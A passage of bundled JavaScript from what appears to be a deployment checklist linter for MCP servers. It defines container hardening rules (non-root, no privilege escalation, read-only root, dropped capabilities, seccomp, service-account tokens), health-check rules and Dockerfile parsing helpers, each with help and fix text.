        .filter((s) => s.service.network_mode === 'host')
        .map((s) => {
        const env = composeEnvironment(s.service);
        const binds = BIND_VARIABLES.filter((k) => env[k] !== undefined && env[k] !== '');
        const ok = binds.length > 0 && binds.every((k) => LOOPBACK_ADDRESS.test(env[k].replace(/^\[|\]$/g, '')));
        return serviceCheck(s, ['network_mode'], ok, ok ? `${s.subject} uses the host network, bound to loopback (${binds.map((k) => `${k}=${env[k]}`).join(', ')})` : `${s.subject} uses the host network ${binds.length ? `bound to ${binds.map((k) => `${k}=${env[k]}`).join(', ')}` : 'without a loopback bind address'}`);
    }),
};
const host_access_rules = [hostNamespaces, hostPaths, composeHostNetwork];

;// CONCATENATED MODULE: ./src/checklist/rules/hardening.ts
/**
 * HRD: hardening. The server runs as a non-root user that cannot gain privileges, on a read-only
 * root filesystem, with capabilities dropped and the runtime's seccomp filter, without a
 * service-account token it does not use, and without the host's namespaces, paths or container
 * runtime socket. Kubernetes manifests, compose services, the Dockerfile and the image config.
 * The host rules (HRD007-HRD009) are in host-access.ts.
 */



/** `root`, `0`, `root:x`, `0:0`, or empty (an image without USER runs as root). */
const isRootUser = (user) => {
    const name = user.trim().split(':')[0];
    return name === '' || name === 'root' || name === '0';
};
/**
 * The USER the image runs as, from the Dockerfile: the last USER of the final stage, else of the
 * stage it is built FROM (`FROM build`), with `${ARG}` expanded from ARG/ENV defaults written before it.
 */
function finalStageUser(text) {
    const stages = [];
    const defaults = new Map();
    for (const i of main.DockerfileParser.parse(text).getInstructions()) {
        const keyword = i.getKeyword().toUpperCase();
        const args = (i.getArgumentsContent() ?? '').trim();
        const line = i.getRange().start.line + 1;
        if (keyword === 'FROM') {
            const words = args.split(/\s+/).filter((w) => !w.startsWith('--'));
            stages.push({ base: (words[0] ?? '').toLowerCase(), name: words[1]?.toLowerCase() === 'as' ? words[2]?.toLowerCase() : undefined, fromLine: line });
        }
        else if (keyword === 'ARG' || keyword === 'ENV') {
            const m = /^([A-Za-z_][A-Za-z0-9_]*)[= ]\s*"?([^"\s]*)"?/.exec(args);
            if (m)
                defaults.set(m[1], m[2]);
        }
        else if (keyword === 'USER' && stages.length) {
            let unresolved = false;
            const user = args.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (_m, name) => {
                const value = defaults.get(name);
                if (value === undefined)
                    unresolved = true;
                return value ?? '';
            });
            stages[stages.length - 1].user = { user, line, unresolved };
        }
    }
    const last = stages[stages.length - 1];
    let stage = last;
    for (let hops = 0; stage && hops < stages.length; hops++) {
        if (stage.user)
            return stage.user;
        const base = stage.base;
        stage = stages.slice(0, stages.indexOf(stage)).reverse().find((s) => s.name !== undefined && s.name === base);
    }
    return { line: last?.fromLine ?? 1 };
}
function imageUser(inputs) {
    return inputs.image ? inputs.image.config.user ?? '' : undefined;
}
function nonRootContainer(ref) {
    const user = securityField(ref, 'runAsUser');
    const nonRoot = securityField(ref, 'runAsNonRoot');
    if (user && Number(user.value) === 0)
        return containerCheck(ref, user.path, false, `${ref.subject} runs as root (runAsUser: 0)`);
    if (user && Number(user.value) > 0)
        return containerCheck(ref, user.path, true, `${ref.subject} runs as user ${String(user.value)}`);
    if (nonRoot && isTrue(nonRoot.value))
        return containerCheck(ref, nonRoot.path, true, `${ref.subject} must run as non-root (runAsNonRoot: true)`);
    if (nonRoot)
        return containerCheck(ref, nonRoot.path, false, `${ref.subject} allows root (runAsNonRoot: ${String(nonRoot.value)})`);
    return containerCheck(ref, securityContextPath(ref), false, `${ref.subject} sets neither runAsNonRoot: true nor a non-zero runAsUser: it runs as the image's user, root unless the image says otherwise`);
}
function nonRootService(s, inputs) {
    if (s.service.user !== undefined && s.service.user !== null) {
        const user = String(s.service.user);
        return serviceCheck(s, ['user'], !isRootUser(user), `${s.subject} runs as ${isRootUser(user) ? 'root' : 'user'} ${user}`);
    }
    const fromImage = imageUser(inputs);
    if (fromImage !== undefined && !isRootUser(fromImage))
        return serviceCheck(s, [], true, `${s.subject} runs as the image's USER ${fromImage}`);
    return serviceCheck(s, [], false, `${s.subject} sets no user:${fromImage === undefined ? '' : ' and the image has no non-root USER'}: it runs as root`);
}
const nonRoot = {
    id: 'HRD001',
    group: 'HRD',
    item: 'hardening',
    severity: 'error',
    title: 'The server runs as a non-root user',
    help: 'Root in a container is root on the host\'s kernel: one escape (a runtime bug, a mounted socket) and the attacker owns the node. ' +
        'Checked where each input says it: the Dockerfile\'s final-stage USER, the image config\'s User, each Kubernetes container\'s securityContext (runAsNonRoot: true or runAsUser > 0, its own or the pod\'s), each compose service\'s user (or the image\'s USER when the image was given).',
    fix: 'Add USER 10001 (a numeric, non-zero id) at the end of the Dockerfile, and runAsNonRoot: true with runAsUser: 10001 in the pod securityContext (the render sets both).',
    needs: [],
    needsAnyOf: ['manifests', 'compose', 'dockerfile', 'image'],
    aligned: {
        'kube-linter': ['run-as-non-root'],
        'kube-score': ['container-security-context-user-group-id'],
        polaris: ['runAsRootAllowed'],
        checkov: ['CKV_K8S_23', 'CKV_DOCKER_3'],
        trivy: ['KSV012', 'DS002'],
        hadolint: ['DL3002'],
    },
    check: (inputs) => {
        const checks = [];
        if (inputs.dockerfile) {
            const { user, line, unresolved } = finalStageUser(inputs.dockerfile.text);
            const ok = user !== undefined && !unresolved && !isRootUser(user);
            const message = user === undefined ? 'the final stage sets no USER: the image runs as its base image\'s user (root for most)' : unresolved ? `USER ${user || '(empty)'} names a build argument without a default` : `the final stage runs as ${isRootUser(user) ? 'root' : 'user'} ${user}`;
            checks.push({ passed: ok, message, location: { file: inputs.dockerfile.file, line }, subject: 'Dockerfile', exemption: { kind: 'comments' } });
        }
        if (inputs.image) {
            const user = inputs.image.config.user ?? '';
            checks.push({ passed: !isRootUser(user), message: user ? `the image runs as ${isRootUser(user) ? 'root' : 'user'} ${user}` : 'the image config sets no User: it runs as root', location: { file: inputs.image.source, pointer: '/config/User' }, subject: `image ${inputs.image.source}` });
        }
        checks.push(...containersOf(inputs.manifests).map(nonRootContainer));
        checks.push(...composeServices(inputs.compose).map((s) => nonRootService(s, inputs)));
        return checks;
    },
};
/** security_opt entries as Docker writes them: `no-new-privileges`, `no-new-privileges:true`, `seccomp=unconfined`... */
function securityOpts(service) {
    return Array.isArray(service.security_opt) ? service.security_opt.map((o) => String(o).toLowerCase().replace(/\s/g, '')) : [];
}
const noPrivilegeEscalation = {
    id: 'HRD002',
    group: 'HRD',
    item: 'hardening',
    severity: 'error',
    title: 'No container is privileged or can gain privileges',
    help: 'A privileged container has every capability and every host device; allowPrivilegeEscalation (on by default) lets a setuid binary in the image raise a process\'s privileges. ' +
        'Kubernetes: securityContext.allowPrivilegeEscalation: false on every container (there is no pod-level field) and privileged unset or false. Compose: security_opt no-new-privileges:true and no privileged: true.',
    fix: 'Set allowPrivilegeEscalation: false (and drop privileged: true) in each container\'s securityContext; in compose, security_opt: ["no-new-privileges:true"].',
    needs: [],
    needsAnyOf: ['manifests', 'compose'],
    aligned: {
        'kube-linter': ['privilege-escalation-container', 'privileged-container'],
        'kube-score': ['container-security-context-privileged'],
        polaris: ['privilegeEscalationAllowed', 'runAsPrivileged'],
        checkov: ['CKV_K8S_20', 'CKV_K8S_16'],
        trivy: ['KSV001', 'KSV017'],
    },
    check: (inputs) => [
        ...containersOf(inputs.manifests).map((ref) => {
            const privileged = getIn(ref.container, ['securityContext', 'privileged']);
            if (isTrue(privileged))
                return containerCheck(ref, [...ref.path, 'securityContext', 'privileged'], false, `${ref.subject} is privileged`);
            const escalation = getIn(ref.container, ['securityContext', 'allowPrivilegeEscalation']);
            const ok = escalation === false || escalation === 'false';
            return containerCheck(ref, escalation !== undefined ? [...ref.path, 'securityContext', 'allowPrivilegeEscalation'] : securityContextPath(ref), ok, ok ? `${ref.subject} cannot gain privileges` : `${ref.subject} ${escalation === undefined ? 'leaves allowPrivilegeEscalation at its default (true)' : 'sets allowPrivilegeEscalation: true'}`);
        }),
        ...composeServices(inputs.compose).map((s) => {
            if (isTrue(s.service.privileged))
                return serviceCheck(s, ['privileged'], false, `${s.subject} is privileged`);
            const ok = securityOpts(s.service).some((o) => /^no-new-privileges([:=]true)?$/.test(o));
            return serviceCheck(s, s.service.security_opt !== undefined ? ['security_opt'] : [], ok, ok ? `${s.subject} sets no-new-privileges` : `${s.subject} does not set security_opt no-new-privileges:true`);
        }),
    ],
};
const readOnlyRoot = {
    id: 'HRD003',
    group: 'HRD',
    item: 'hardening',
    severity: 'warning',
    title: 'Root filesystems are read-only',
    help: 'With a writable root filesystem an attacker who gets code execution can replace the server\'s own files or drop tools; read-only leaves only the volumes you mounted writable. ' +
        'A warning: some servers write caches under their home directory and need an emptyDir there first (the render mounts one at /tmp).',
    fix: 'Set readOnlyRootFilesystem: true in each container\'s securityContext (compose: read_only: true), with an emptyDir or tmpfs for the paths the server writes.',
    needs: [],
    needsAnyOf: ['manifests', 'compose'],
    aligned: {
        'kube-linter': ['no-read-only-root-fs'],
        'kube-score': ['container-security-context-readonlyrootfilesystem'],
        polaris: ['notReadOnlyRootFilesystem'],
        checkov: ['CKV_K8S_22'],
        trivy: ['KSV014'],
    },
    check: (inputs) => [
        ...containersOf(inputs.manifests).map((ref) => {
            const value = getIn(ref.container, ['securityContext', 'readOnlyRootFilesystem']);
            const ok = isTrue(value);
            return containerCheck(ref, value !== undefined ? [...ref.path, 'securityContext', 'readOnlyRootFilesystem'] : securityContextPath(ref), ok, `${ref.subject} has a ${ok ? 'read-only' : 'writable'} root filesystem`);
        }),
        ...composeServices(inputs.compose).map((s) => {
            const ok = isTrue(s.service.read_only);
            return serviceCheck(s, s.service.read_only !== undefined ? ['read_only'] : [], ok, `${s.subject} has a ${ok ? 'read-only' : 'writable'} root filesystem`);
        }),
    ],
};
/** The capabilities container runtimes grant by default (Docker, containerd, CRI-O): dropping all of them is dropping ALL. */
const DEFAULT_CAPABILITIES = ['CHOWN', 'DAC_OVERRIDE', 'FSETID', 'FOWNER', 'MKNOD', 'NET_RAW', 'SETGID', 'SETUID', 'SETFCAP', 'SETPCAP', 'NET_BIND_SERVICE', 'SYS_CHROOT', 'KILL', 'AUDIT_WRITE'];
/** The one capability the restricted Pod Security Standard lets a container add back. */
const ALLOWED_ADD = new Set(['NET_BIND_SERVICE']);
function capabilityVerdict(drop, add) {
    const norm = (v) => (Array.isArray(v) ? v.map((c) => String(c).toUpperCase().replace(/^CAP_/, '')) : []);
    const dropped = new Set(norm(drop));
    const added = norm(add).filter((c) => !ALLOWED_ADD.has(c));
    if (added.length)
        return { ok: false, why: `adds ${added.join(', ')}` };
    if (dropped.has('ALL') || DEFAULT_CAPABILITIES.every((c) => dropped.has(c)))
        return { ok: true, why: 'drops all capabilities' };
    return { ok: false, why: dropped.size ? `drops only ${[...dropped].join(', ')}` : 'keeps the runtime\'s default capabilities' };
}
const capabilitiesDropped = {
    id: 'HRD004',
    group: 'HRD',
    item: 'hardening',
    severity: 'warning',
    title: 'Containers drop all capabilities',
    help: 'By default a container keeps 14 capabilities (NET_RAW to forge packets, CHOWN, SETUID...). An MCP server needs none of them; dropping ALL (or each of the 14) removes what an exploit would use. Adding back NET_BIND_SERVICE is allowed; anything else fails.',
    fix: 'Set securityContext.capabilities.drop: ["ALL"] on each container (compose: cap_drop: [ALL]).',
    needs: [],
    needsAnyOf: ['manifests', 'compose'],
    aligned: { 'kube-linter': ['drop-net-raw-capability'], polaris: ['insecureCapabilities', 'dangerousCapabilities'], checkov: ['CKV_K8S_37'], trivy: ['KSV003'] },
    check: (inputs) => [
        ...containersOf(inputs.manifests).map((ref) => {
            const caps = getIn(ref.container, ['securityContext', 'capabilities']);
            const { ok, why } = capabilityVerdict(getIn(caps, ['drop']), getIn(caps, ['add']));
            return containerCheck(ref, isDict(caps) ? [...ref.path, 'securityContext', 'capabilities'] : securityContextPath(ref), ok, `${ref.subject} ${why}`);
        }),
        ...composeServices(inputs.compose).map((s) => {
            const { ok, why } = capabilityVerdict(s.service.cap_drop, s.service.cap_add);
            return serviceCheck(s, s.service.cap_drop !== undefined ? ['cap_drop'] : [], ok, `${s.subject} ${why}`);
        }),
    ],
};
const seccomp = {
    id: 'HRD005',
    group: 'HRD',
    item: 'hardening',
    severity: 'warning',
    title: 'Containers run under the runtime\'s seccomp profile',
    help: 'Kubernetes runs pods Unconfined unless a seccomp profile is set: every system call, including the rarely used ones most kernel exploits go through, is open. RuntimeDefault (or a Localhost profile) closes them. ' +
        'The profile is read from the container\'s securityContext, else the pod\'s; the seccomp annotations deprecated since Kubernetes 1.19 are not read. Compose: Docker applies its default profile unless seccomp=unconfined or privileged.',
    fix: 'Set securityContext.seccompProfile.type: RuntimeDefault in the pod spec (the render does); in compose, remove seccomp=unconfined.',
    needs: [],
    needsAnyOf: ['manifests', 'compose'],
    aligned: { 'kube-score': ['container-seccomp-profile'], polaris: ['linuxHardening'], checkov: ['CKV_K8S_31'], trivy: ['KSV030', 'KSV104'] },
    check: (inputs) => [
        ...containersOf(inputs.manifests).map((ref) => {
            const type = securityField(ref, 'seccompProfile');
            const value = getIn(type?.value, ['type']);
            const ok = value === 'RuntimeDefault' || value === 'Localhost';
            return containerCheck(ref, type ? [...type.path, 'type'] : securityContextPath(ref), ok, `${ref.subject} runs ${value === undefined ? 'without a seccomp profile (Unconfined)' : `with seccomp ${String(value)}`}`);
        }),
        ...composeServices(inputs.compose).map((s) => {
            const unconfined = securityOpts(s.service).some((o) => /^seccomp[:=]unconfined$/.test(o)) || isTrue(s.service.privileged);
            return serviceCheck(s, s.service.security_opt !== undefined ? ['security_opt'] : [], !unconfined, unconfined ? `${s.subject} runs without seccomp` : `${s.subject} runs under Docker's default seccomp profile`);
        }),
    ],
};
const serviceAccountToken = {
    id: 'HRD006',
    group: 'HRD',
    item: 'hardening',
    severity: 'warning',
    title: 'Pods do not mount a service-account token they do not use',
    help: 'Every pod gets a token for the Kubernetes API unless told otherwise; an MCP server does not call the API, so the token only helps whoever breaks into it. ' +
        'Passes when the pod sets automountServiceAccountToken: false, or leaves it unset and its ServiceAccount (in the manifests) sets false; a pod-level true wins over the ServiceAccount.',
    fix: 'Set automountServiceAccountToken: false on the pod spec (and on the ServiceAccount); the render sets both.',
    needs: ['manifests'],
    aligned: { polaris: ['automountServiceAccountToken'], checkov: ['CKV_K8S_38'], trivy: ['KSV036'] },
    check: (inputs) => {
        const docs = inputs.manifests ?? [];
        return workloadsOf(docs).map((w) => {
            const own = w.pod.automountServiceAccountToken;
            if (own !== undefined) {
                const ok = own === false || own === 'false';
                return workloadCheck(w, w.subject, [...w.podPath, 'automountServiceAccountToken'], ok, `${w.subject} ${ok ? 'does not mount' : 'mounts'} a service-account token (automountServiceAccountToken: ${String(own)})`);
            }
            const accountName = typeof w.pod.serviceAccountName === 'string' ? w.pod.serviceAccountName : typeof w.pod.serviceAccount === 'string' ? w.pod.serviceAccount : 'default';
            const account = docsOfKind(docs, 'ServiceAccount').find((a) => nameOf(a) === accountName && sameNamespace(a, w.doc));
            const ok = account !== undefined && account.value.automountServiceAccountToken === false;
            return workloadCheck(w, w.subject, w.podPath, ok, ok ? `${w.subject} inherits automountServiceAccountToken: false from ServiceAccount/${accountName}` : `${w.subject} mounts ServiceAccount/${accountName}'s token (automountServiceAccountToken is not false on the pod${account ? ' or the account' : ''})`);
        });
    },
};
const hardening_rules = [nonRoot, noPrivilegeEscalation, readOnlyRoot, capabilitiesDropped, seccomp, serviceAccountToken, ...host_access_rules];

// EXTERNAL MODULE: external "node:util"
var external_node_util_ = __webpack_require__(57975);
;// CONCATENATED MODULE: ./src/checklist/dockerfile.ts
/** The Dockerfile as the rules see it (dockerfile-ast, parsed once per text): base images, ENV and ARG with their lines. */

const cache = new Map();
function parsed(text) {
    let doc = cache.get(text);
    if (!doc) {
        doc = main.DockerfileParser.parse(text);
        if (cache.size > 16)
            cache.clear();
        cache.set(text, doc);
    }
    return doc;
}
/** Expands `$NAME` / `${NAME}` / `${NAME:-default}` from the defaults of the ARGs before the first FROM. */
function expand(text, args) {
    let unresolved = false;
    const out = text.replace(/\$\{([A-Za-z_][A-Za-z0-9_]*)(?::?-([^}]*))?\}|\$([A-Za-z_][A-Za-z0-9_]*)/g, (_m, braced, fallback, bare) => {
        const value = args.get((braced ?? bare)) ?? fallback;
        if (value === undefined)
            unresolved = true;
        return value ?? '';
    });
    return unresolved ? undefined : out;
}
/** Splits `registry:5000/repo:tag@sha256:...` into name, tag and digest. */
function splitReference(image) {
    const at = image.indexOf('@');
    const digest = at >= 0 ? image.slice(at + 1) : undefined;
    const rest = at >= 0 ? image.slice(0, at) : image;
    const slash = rest.lastIndexOf('/');
    const colon = rest.lastIndexOf(':');
    if (colon > slash)
        return { name: rest.slice(0, colon), tag: rest.slice(colon + 1), digest };
    return { name: rest, digest };
}
function baseImages(text) {
    const doc = parsed(text);
    const args = new Map();
    for (const arg of doc.getInitialARGs()) {
        const p = arg.getProperty();
        if (p)
            args.set(p.getName(), p.getValue() ?? undefined);
    }
    const stages = new Set();
    return doc.getFROMs().map((from) => {
        const line = from.getRange().start.line + 1;
        const written = from.getImage() ?? '';
        const stage = from.getBuildStage();
        const image = written.includes('$') ? expand(written, args) : written;
        let result;
        if (image === undefined)
            result = { image: written, name: written, line, kind: 'unresolved' };
        else if (stages.has(image.toLowerCase()))
            result = { image, name: image, line, kind: 'stage' };
        else if (image.toLowerCase() === 'scratch')
            result = { image, name: image, line, kind: 'scratch' };
        else
            result = { image, ...splitReference(image), line, kind: 'image' };
        if (stage)
            stages.add(stage.toLowerCase());
        return result;
    });
}
function assignments(text) {
    const doc = parsed(text);
    const out = [];
    for (const env of doc.getENVs()) {
        for (const p of env.getProperties())
            out.push({ keyword: 'ENV', name: p.getName(), value: p.getValue() ?? '', line: p.getRange().start.line + 1 });
    }
    for (const arg of doc.getARGs()) {
        const p = arg.getProperty();
        if (p)
            out.push({ keyword: 'ARG', name: p.getName(), value: p.getValue() ?? undefined, line: p.getRange().start.line + 1 });
    }
    return out.sort((a, b) => a.line - b.line);
}
/** The HEALTHCHECK instructions of the last stage (the image's), with lines. */
function healthchecks(text) {
    const doc = parsed(text);
    const froms = doc.getFROMs();
    const lastFrom = froms.length ? froms[froms.length - 1].getRange().start.line : -1;
    return doc
        .getHEALTHCHECKs()
        .filter((h) => h.getRange().start.line > lastFrom)
        .map((h) => ({ line: h.getRange().start.line + 1, none: (h.getArguments()[0]?.getValue() ?? '').toUpperCase() === 'NONE' }));
}

;// CONCATENATED MODULE: ./src/checklist/rules/health.ts
/**
 * HLT: health checks configured and passing. Probes on every serving container (both kinds, not
 * the same, on ports that exist), a healthcheck on compose services and in the image, an ECS
 * container health check, the live MCP gate passed, and a stdio server that keeps stdout for
 * JSON-RPC (when the health report recorded what it wrote).
 */



const servingContainers = (refs) => refs.filter((c) => !c.init && SERVING_KINDS.has(c.workload.kind));
/** Each probe's own foreign checks: kube-linter's no-liveness-probe exempts the liveness check only. */
const PROBE_ALIGNED = {
    readinessProbe: { 'kube-linter': ['no-readiness-probe'], polaris: ['readinessProbeMissing'], checkov: ['CKV_K8S_9'] },
    livenessProbe: { 'kube-linter': ['no-liveness-probe'], polaris: ['livenessProbeMissing'], checkov: ['CKV_K8S_8'] },
};
const probesPresent = {
    id: 'HLT001',
    group: 'HLT',
    item: 'health-checks',
    severity: 'error',
    title: 'Serving containers have readiness and liveness probes',
    help: 'Without a readiness probe a pod gets traffic before the MCP server listens; without a liveness probe a wedged server is never restarted.',
    fix: 'Add readinessProbe and livenessProbe (httpGet on the bridge\'s /readyz and /healthz for stdio servers; render writes both).',
    needs: ['manifests'],
    aligned: { 'kube-linter': ['no-readiness-probe', 'no-liveness-probe'], 'kube-score': ['pod-probes'], polaris: ['readinessProbeMissing', 'livenessProbeMissing'], checkov: ['CKV_K8S_8', 'CKV_K8S_9'] },
    check: ({ manifests }) => servingContainers(containersOf(manifests)).flatMap((c) => ['readinessProbe', 'livenessProbe'].map((probe) => {
        const ok = isDict(c.container[probe]);
        return { ...containerCheck(c, ok ? [...c.path, probe] : c.path, ok, `${c.subject} ${ok ? 'has' : 'has no'} ${probe}`), aligned: PROBE_ALIGNED[probe] };
    })),
};
/** The handler of a probe (httpGet, tcpSocket, grpc, exec), without timings. */
function handlerOf(probe) {
    const { httpGet, tcpSocket, grpc, exec } = probe;
    return { httpGet, tcpSocket, grpc, exec };
}
const probesDiffer = {
    id: 'HLT002',
    group: 'HLT',
    item: 'health-checks',
    severity: 'warning',
    title: 'Readiness and liveness probes are not identical',
    help: 'One endpoint for both means a busy or draining server is restarted instead of being taken out of the Service: readiness says "send me traffic", liveness says "I am not wedged".',
    fix: 'Probe readiness and liveness on different handlers (the bridge serves /readyz and /healthz).',
    needs: ['manifests'],
    aligned: { 'kube-score': ['pod-probes-identical'] },
    check: ({ manifests }) => servingContainers(containersOf(manifests))
        .filter((c) => isDict(c.container.readinessProbe) && isDict(c.container.livenessProbe))
        .map((c) => {
        const same = (0,external_node_util_.isDeepStrictEqual)(handlerOf(c.container.readinessProbe), handlerOf(c.container.livenessProbe));
        return containerCheck(c, [...c.path, 'livenessProbe'], !same, `${c.subject}: readiness and liveness ${same ? 'use the same handler' : 'differ'}`);
    }),
};
function probePort(probe) {
    for (const field of ['httpGet', 'tcpSocket', 'grpc']) {
        const handler = probe[field];
        if (isDict(handler) && handler.port !== undefined)
            return { port: handler.port, field };
    }
    return undefined;
}
const probePortsResolve = {
    id: 'HLT003',
    group: 'HLT',
    item: 'health-checks',
    severity: 'error',
    title: 'Probe ports resolve to a container port',
    help: 'A probe on a port name the container does not declare never succeeds (the pod is never ready); on an undeclared number it probes something else.',
    fix: 'Point the probe at a port the container lists under ports (by name or number).',
    needs: ['manifests'],
    aligned: { 'kube-linter': ['liveness-port', 'readiness-port', 'startup-port'] },
    check: ({ manifests }) => {
        const checks = [];
        for (const c of servingContainers(containersOf(manifests))) {
            const ports = Array.isArray(c.container.ports) ? c.container.ports.filter(isDict) : [];
            for (const kind of ['readinessProbe', 'livenessProbe', 'startupProbe']) {
                const probe = c.container[kind];
                if (!isDict(probe))
                    continue;
                const found = probePort(probe);
                if (!found)
                    continue;
                const { port, field } = found;
                const ok = typeof port === 'string' ? ports.some((p) => p.name === port) : ports.length === 0 || ports.some((p) => p.containerPort === port);
                checks.push(containerCheck(c, [...c.path, kind, field, 'port'], ok, `${c.subject} ${kind} port ${String(port)} ${ok ? 'resolves' : 'is not a port of the container'}`));
            }
        }
        return checks;
    },
};
const composeHealthcheck = {
    id: 'HLT004',
    group: 'HLT',
    item: 'health-checks',
    severity: 'warning',
    title: 'Compose services have a healthcheck',
    help: 'Without a healthcheck, `depends_on: condition: service_healthy` and restarts cannot tell a started container from a serving one.',
    fix: 'Add healthcheck: { test: [CMD, ...], interval: 10s } to the service (or a HEALTHCHECK in the image), and never disable: true.',
    needs: ['compose'],
    aligned: {},
    check: ({ compose, image }) => composeServices(compose).map((s) => {
        const hc = s.service.healthcheck;
        const disabled = isDict(hc) && (hc.disable === true || (Array.isArray(hc.test) && hc.test[0] === 'NONE'));
        const inherited = !isDict(hc) && image?.config.healthcheck && image.config.healthcheck.test[0] !== 'NONE';
        const ok = (isDict(hc) && !disabled) || Boolean(inherited);
        const message = disabled ? `${s.subject} disables its healthcheck` : ok ? `${s.subject} has a healthcheck${inherited ? ' (from the image)' : ''}` : `${s.subject} has no healthcheck`;
        return serviceCheck(s, isDict(hc) ? ['healthcheck'] : [], ok, message);
    }),
};
const imageHealthcheck = {
    id: 'HLT005',
    group: 'HLT',
    item: 'health-checks',
    severity: 'note',
    title: 'The image declares a HEALTHCHECK',
    help: 'Docker and Compose use the image\'s HEALTHCHECK when the service declares none (Kubernetes ignores it and uses probes).',
    fix: 'Add HEALTHCHECK CMD ... to the final stage (the package stage writes one against the bridge\'s /healthz).',
    needs: [],
    needsAnyOf: ['dockerfile', 'image'],
    aligned: { checkov: ['CKV_DOCKER_2'], trivy: ['AVD-DS-0026'] },
    check: ({ dockerfile, image }) => {
        if (image) {
            const hc = image.config.healthcheck;
            const ok = Boolean(hc && hc.test.length && hc.test[0] !== 'NONE');
            return [{ passed: ok, message: ok ? 'the image config has a Healthcheck' : 'the image config has no Healthcheck', location: { file: image.source, pointer: '/config/Healthcheck' }, subject: 'image Healthcheck' }];
        }
        const found = healthchecks(dockerfile.text);
        const last = found[found.length - 1];
        const ok = Boolean(last && !last.none);
        return [{ passed: ok, message: ok ? 'the final stage has a HEALTHCHECK' : last?.none ? 'HEALTHCHECK NONE disables the check' : 'the final stage has no HEALTHCHECK', location: { file: dockerfile.file, line: last?.line ?? 1 }, subject: 'Dockerfile HEALTHCHECK', exemption: { kind: 'comments' } }];
    },
};
const ecsHealthcheck = {
    id: 'HLT006',
    group: 'HLT',
    item: 'health-checks',
    severity: 'warning',
    title: 'ECS containers have a health check',
    help: 'ECS replaces a task only when its essential container reports unhealthy; without a healthCheck a wedged server keeps its place behind the load balancer.',
    fix: 'Add healthCheck: { command: [CMD-SHELL, ...], interval: 10 } to the container definition.',
    needs: ['cloud'],
    aligned: {},
    check: ({ cloud }) => (cloud ?? [])
        .filter((c) => c.target === 'ecs')
        .flatMap(({ document }) => {
        const defs = getIn(document.value, ['containerDefinitions']);
        if (!Array.isArray(defs))
            return [];
        return defs.filter(isDict).map((d, i) => {
            const ok = isDict(d.healthCheck);
            return { passed: ok, message: `ECS container ${String(d.name ?? i)} ${ok ? 'has' : 'has no'} healthCheck`, location: document.locate(['containerDefinitions', i, ...(ok ? ['healthCheck'] : [])]), subject: `ecs container ${String(d.name ?? i)}`, exemption: { kind: 'comments' } };
        });
    }),
};
const liveGate = {
    id: 'HLT007',
    group: 'HLT',
    item: 'health-checks',
    severity: 'error',
    title: 'The live MCP health gate passed',
    help: 'Configured probes say nothing about the protocol: the gate\'s handshake, tool list and smoke call against the running server do.',
    fix: 'Read the health report\'s problems: fix the server or the contract, redeploy, and run the gate again.',
    needs: ['health-report'],
    aligned: {},
    unavailable: ({ healthReport }) => (typeof healthReport.value.ok === 'boolean' ? undefined : `${healthReport.file} has no "ok" (is it the JSON report of health?)`),
    check: ({ healthReport }) => {
        const report = healthReport.value;
        const errors = (report.problems ?? []).filter((p) => p.level !== 'warning');
        const summary = errors.map((p) => `${p.code ?? 'problem'}: ${p.message ?? ''}`).slice(0, 3).join('; ');
        return [{ passed: report.ok, message: report.ok ? `the gate passed (${report.status ?? 'healthy'}) for ${report.target ?? 'the server'}` : `the gate failed (${report.status ?? 'unhealthy'}) for ${report.target ?? 'the server'}${summary ? `: ${summary}` : ''}`, location: { file: healthReport.file, pointer: '/ok' }, subject: 'health gate' }];
    },
};
/** What the health report says about a stdio server's stdout: `stdout: { lines, nonJsonRpcLines }`. */
function stdoutRecord(value) {
    const stdout = value.stdout;
    return isDict(stdout) && typeof stdout.nonJsonRpcLines === 'number' ? stdout : undefined;
}
const stdioStdout = {
    id: 'HLT008',
    group: 'HLT',
    item: 'health-checks',
    severity: 'error',
    title: 'A stdio server writes only JSON-RPC to stdout',
    help: 'On stdio, stdout is the protocol channel: a log line there breaks the client\'s parser. Logs belong on stderr.',
    fix: 'Send logs to stderr (console.error, logging to sys.stderr); never print to stdout outside the SDK\'s transport.',
    needs: ['health-report'],
    aligned: {},
    unavailable: ({ healthReport, spec }) => {
        const stdio = healthReport.value.transport === 'stdio' || spec?.value.server.transport === 'stdio';
        if (!stdio)
            return undefined;
        return stdoutRecord(healthReport.value) ? undefined : `${healthReport.file} does not record what the server wrote to stdout`;
    },
    check: ({ healthReport, spec }) => {
        const stdio = healthReport.value.transport === 'stdio' || spec?.value.server.transport === 'stdio';
        if (!stdio)
            return [];
        const record = stdoutRecord(healthReport.value);
        const ok = record.nonJsonRpcLines === 0;
        return [{ passed: ok, message: ok ? `stdout carried only JSON-RPC${record.lines !== undefined ? ` (${record.lines} lines)` : ''}` : `${record.nonJsonRpcLines} line(s) on stdout were not JSON-RPC`, location: { file: healthReport.file, pointer: '/stdout/nonJsonRpcLines' }, subject: 'stdio stdout' }];
    },
};
const health_rules = [probesPresent, probesDiffer, probePortsResolve, composeHealthcheck, imageHealthcheck, ecsHealthcheck, liveGate, stdioStdout];

// EXTERNAL MODULE: ./src/registry/reference.ts
var reference = __webpack_require__(79310);
;// CONCATENATED MODULE: ./src/checklist/rules/image.ts
/**
 * IMG: the image built is the image deployed. Deployed images are pinned by digest and equal to the
 * pushed one; base images are pinned; the image says where it came from (OCI source and revision).
 */



/** Every `image:` string in a cloud render (ECS containerDefinitions, Cloud Run and Container Apps containers). */
function cloudImages(value, path = []) {
    if (Array.isArray(value))
        return value.flatMap((v, i) => cloudImages(v, [...path, i]));
    if (!isDict(value))
        return [];
    return Object.entries(value).flatMap(([k, v]) => (k === 'image' && typeof v === 'string' ? [{ image: v, path: [...path, k] }] : cloudImages(v, [...path, k])));
}
function deployedImages(inputs) {
    const out = [];
    for (const c of containersOf(inputs.manifests)) {
        if (typeof c.container.image !== 'string')
            continue;
        out.push({ image: c.container.image, where: c.subject, check: (passed, message) => containerCheck(c, [...c.path, 'image'], passed, message) });
    }
    for (const s of composeServices(inputs.compose)) {
        if (typeof s.service.image !== 'string')
            continue;
        out.push({ image: s.service.image, where: s.subject, check: (passed, message) => serviceCheck(s, ['image'], passed, message) });
    }
    for (const { target, document } of inputs.cloud ?? []) {
        for (const { image, path } of cloudImages(document.value)) {
            out.push({ image, where: `${target} ${path.join('.')}`, check: (passed, message) => ({ passed, message, location: document.locate(path), subject: `${target} ${path.slice(0, -1).join('.')}`, exemption: { kind: 'comments' } }) });
        }
    }
    return out;
}
function parsedRef(image) {
    try {
        return (0,reference/* parseImageReference */.o_)(image);
    }
    catch {
        return undefined;
    }
}
